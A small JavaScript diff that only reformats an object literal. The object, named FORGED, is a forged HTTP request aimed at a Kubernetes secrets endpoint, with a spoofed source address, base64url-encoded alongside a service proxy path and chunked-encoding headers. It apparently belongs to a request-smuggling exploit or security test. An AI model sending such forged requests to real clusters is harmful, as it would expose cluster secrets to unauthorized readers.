@@ -118,8 +118,12 @@ const PROGRAM = "/api/v1/namespaces/shop/services/web/proxy";
 const CHUNKED = ["Transfer-Encoding: chunked", "Content-Type: application/json"];
 const FORGED = Buffer.from(
   JSON.stringify({
-    ...{ method: "GET", url: "/k8s/clusters/prod/api/v1/secrets", httpVersion: "1.1" },
-    ...{ rawHeaders: [], headers: {}, remoteAddress: "203.0.113.7" },
+    method: "GET",
+    url: "/k8s/clusters/prod/api/v1/secrets",
+    httpVersion: "1.1",
+    rawHeaders: [],
+    headers: {},
+    remoteAddress: "203.0.113.7",
   }),
 ).toString("base64url");
 
